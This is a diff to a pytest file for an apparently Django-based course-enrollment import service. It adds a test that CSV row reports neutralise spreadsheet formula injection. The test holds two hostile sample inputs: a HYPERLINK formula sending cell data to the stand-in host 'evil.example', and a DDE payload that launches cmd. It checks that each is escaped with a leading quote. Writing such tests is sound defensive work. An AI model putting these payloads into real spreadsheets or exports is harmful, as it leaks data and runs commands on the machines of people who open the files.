@@ -145,8 +145,8 @@ def test_progress_is_stored_while_the_task_runs(educator_token, enrollments, mon
     seen = []
     real = imports._progress
 
-    def watch(imp_, status, processed):
-        real(imp_, status, processed)
+    def watch(imp_, status, processed, **fields):
+        real(imp_, status, processed, **fields)
         seen.append(CsvImport.objects.get(pk=imp_.pk).progress_percent)
 
     monkeypatch.setattr(imports, "_progress", watch)
@@ -155,3 +155,42 @@ def test_progress_is_stored_while_the_task_runs(educator_token, enrollments, mon
     imp.refresh_from_db()
     assert imp.status == "done" and imp.progress_percent == 100
     assert imp.applied_rows == 1 and imp.error_rows == 29  # one version, applied once
+
+
+@pytest.mark.parametrize("route", ["api", "web"])
+def test_the_row_report_never_starts_a_formula(client, educator_token, institution, route):
+    """Issue 10: every CSV Polku writes goes through recruitment.csv_export."""
+    from recruitment.models import Role
+    from tests import factories
+
+    payload = '=HYPERLINK("https://evil.example/"&A1)'
+    user = factories.user_with_role(Role.EDUCATOR, institution, username="edu.report")
+    imp = CsvImport.objects.create(
+        organisation=institution,
+        uploaded_by=user,
+        kind="enrollments",
+        status="rejected",
+        report=[
+            {"row": 2, "status": "not_applied", "errors": {}},
+            {"row": 3, "status": "-error", "errors": {"@reason": [payload]}},
+            {"row": 4, "status": "error", "errors": {"+1+cmd|' /C calc'!A0": ["x"]}},
+        ],
+    )
+    if route == "api":
+        from integration.models import ApiClient
+
+        imp.uploaded_by, imp.client = None, ApiClient.objects.get(organisation=institution)
+        imp.save()
+        response = http(educator_token).get(f"/api/v1/imports/{imp.pk}/report/")
+    else:
+        client.force_login(user)
+        response = client.get(f"/imports/{imp.pk}/report.csv")
+    assert response.status_code == 200
+    text = response.content.decode()
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1:] == [
+        ["2", "not_applied", ""],
+        ["3", "'-error", f"'@reason: {payload}"],
+        ["4", "error", "'+1+cmd|' /C calc'!A0: x"],
+    ]
+    assert text.splitlines()[1] == '2,"not_applied",""'  # row numbers stay numbers
